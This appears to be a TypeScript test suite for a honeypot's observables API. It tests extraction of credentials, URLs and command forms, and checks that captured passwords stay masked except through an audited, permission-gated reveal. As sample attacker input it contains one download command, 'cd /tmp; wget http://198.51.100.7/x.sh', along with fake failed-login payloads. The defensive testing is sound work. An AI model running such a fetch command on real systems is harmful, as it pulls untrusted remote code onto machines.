import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { mask } from '../../src/lib/masking.ts';
import { openTestServer, type TestServer, type TestUser } from '../support/server.ts';

interface Listed {
  items: { id: string; value: string; masked: boolean; events: number; in_range?: number; before?: number }[];
  next_cursor: string | null;
  dropped_values: number;
}

const personal = 'Gartenzwerg#77';
const dayMs = 24 * 60 * 60_000;

async function visit(server: TestServer, user: TestUser) {
  const node = await server.createNode(user);
  const send = async (event: object) => {
    const body = { timestamp: new Date().toISOString(), service: 'ssh', source_ip: '203.0.113.9', ...event };
    const answer = await server.call('POST', '/api/honeypot-log', {
      headers: { 'x-node-key': node.key },
      body,
    });
    assert.equal(answer.status, 200, JSON.stringify(answer.body));
  };
  const guess = (password: string, event: object = {}) =>
    send({
      activity: 'login_failed',
      payload: `j.doe:${password}`,
      extra: { username: 'j.doe', password, session: 's1', note: { again: `it was ${password}` } },
      ...event,
    });
  return { node, send, guess };
}

describe('observables in the API', () => {
  it('lists values with their counts, and says what each occurs together with', async (t) => {
    const server = await openTestServer();
    t.after(() => server.close());
    const user = await server.createUser();
    const { send, guess } = await visit(server, user);
    await guess('123456');
    await guess('123456');
    await send({
      activity: 'command',
      payload: 'cd /tmp; wget http://198.51.100.7/x.sh',
      extra: { session: 's1' },
    });
    const { headers } = user;
    const get = async <T>(path: string) => (await server.call<T>('GET', path, { headers })).body;
    const { items } = await get<Listed>('/api/observables?kind=credential');
    assert.deepEqual(
      items.map(({ value, events, masked }) => ({ value, events, masked })),
      [{ value: 'j.doe:123456', events: 2, masked: false }],
    );
    const detail = await get<{ together: { kind: string; items: { value: string }[] }[]; recent: string[] }>(
      `/api/observables/${items[0]!.id}`,
    );
    const of = (kind: string) => detail.together.find((group) => group.kind === kind)?.items[0]?.value;
    assert.equal(of('url'), 'http://198.51.100.7/x.sh');
    assert.equal(of('command_form'), 'cd /tmp; wget <url>');
    assert.equal(detail.recent.length, 2);
    const kinds = await get<{ kinds: { kind: string; kept: number }[] }>('/api/observables/kinds');
    assert.equal(kinds.kinds.find(({ kind }) => kind === 'password')?.kept, 1);
    for (const bad of ['', '?kind=nothing', '?kind=url&from=yesterday'])
      assert.equal((await server.call('GET', `/api/observables${bad}`, { headers })).status, 422, bad);
    const turned = '?kind=url&from=2026-02-01T00:00:00Z&to=2026-01-01T00:00:00Z';
    assert.equal((await server.call('GET', `/api/observables${turned}`, { headers })).status, 400);
    for (const id of ['0'.repeat(24), 'x', '../'])
      assert.equal(
        (await server.call('GET', `/api/observables/${encodeURIComponent(id)}`, { headers })).status,
        404,
      );
    assert.equal((await server.call('GET', '/api/observables?kind=url')).status, 401);
  });

  it('finds what rises against the period before', async (t) => {
    const server = await openTestServer();
    t.after(() => server.close());
    const user = await server.createUser();
    const { guess } = await visit(server, user);
    const before = { timestamp: new Date(Date.now() - 3 * dayMs).toISOString() };
    for (const password of ['falling', 'falling', 'falling', 'steady1']) await guess(password, before);
    for (const password of ['falling', 'steady1', 'rising1', 'rising1']) await guess(password);
    const range = `&from=${new Date(Date.now() - dayMs).toISOString()}`;
    const { items } = (
      await server.call<Listed>('GET', `/api/observables?kind=user&sort=rise${range}`, {
        headers: user.headers,
      })
    ).body;
    assert.deepEqual(
      items.map(({ value, in_range, before: earlier }) => [value, in_range, earlier]),
      [['j.doe', 4, 0]],
    );
    const week = `&from=${new Date(Date.now() - 2 * dayMs).toISOString()}`;
    const rising = (
      await server.call<Listed>('GET', `/api/observables?kind=credential&sort=rise${week}`, {
        headers: user.headers,
      })
    ).body.items;
    assert.deepEqual(
      rising.map(({ in_range, before: earlier }) => [in_range, earlier]),
      [[2, 0]],
    );
  });
});

describe("a person's password", () => {
  it('is masked in every answer, and revealed only to who may, each time noted', async (t) => {
    const server = await openTestServer();
    t.after(() => server.close());
    const user = await server.createUser();
    const { node, send, guess } = await visit(server, user);
    for (let times = 0; times < 12; times++) await guess(personal);
    await guess(personal, { activity: 'login_success' });
    await send({
      service: 'http',
      activity: 'request',
      payload: `POST /login HTTP/1.1\r\nHost: intranet\r\n\r\nuser=j.doe&password=${encodeURIComponent(personal)}`,
    });
    const { headers } = user;
    const key = async (scopes: string[]): Promise<{ 'x-api-key': string }> => {
      const made = await server.call<{ key: string }>('POST', '/api/keys', {
        headers,
        body: { name: 'k', scopes },
      });
      return { 'x-api-key': made.body.key };
    };
    const reader = await key(['read']);
    const { items: events } = (
      await server.call<{ items: { log_id: string }[] }>('GET', '/api/events', { headers })
    ).body;
    const { items: incidents } = (
      await server.call<{ items: { incident_id: string }[] }>('GET', '/api/incidents', { headers })
    ).body;
    assert.ok(incidents.length > 0);
    const passwords = (await server.call<Listed>('GET', '/api/observables?kind=password', { headers })).body;
    const hidden = passwords.items.find(({ masked }) => masked);
    assert.equal(hidden?.value, mask);
    const paths = [
      '/api/events',
      `/api/events/${events[0]!.log_id}`,
      `/api/events/${events.at(-1)!.log_id}`,
      '/api/alerts',
      '/api/recent-attacks',
      '/api/logs',
      '/api/incidents',
      `/api/incidents/${incidents[0]!.incident_id}`,
      '/api/sessions',
      `/api/sessions/${node.id}/s1`,
      '/api/attackers',
      '/api/observables?kind=password',
      '/api/observables?kind=credential',
      '/api/observables?kind=credential&sort=rise',
      '/api/observables?kind=user',
      `/api/observables/${hidden.id}`,
    ];
    for (const path of paths) {
      const answer = await server.app.inject({ method: 'GET', url: path, headers: reader });
      assert.equal(answer.statusCode, 200, path);
      for (const form of [personal, encodeURIComponent(personal)])
        assert.ok(!answer.body.includes(form), `${path} shows the password`);
    }
    const url = `/api/observables/${hidden.id}/reveal`;
    assert.equal((await server.call('POST', url, { headers: reader })).status, 403);
    assert.equal((await server.call('POST', url)).status, 401);
    const holder = await key(['secrets']);
    const shown = await server.call<{ value: string }>('POST', url, { headers: holder });
    assert.equal(shown.body.value, personal);
    const whole = await server.call('POST', `/api/events/${events.at(-1)!.log_id}/reveal`, {
      headers: holder,
    });
    assert.ok(JSON.stringify(whole.body).includes(personal));
    const audit = await server.app.inject({ method: 'GET', url: '/api/audit', headers });
    assert.ok(audit.body.includes('/api/observables/:id/reveal') && audit.body.includes(hidden.id));
    assert.ok(audit.body.includes('/api/events/:id/reveal'));
    assert.ok(!audit.body.includes(personal));
  });
});
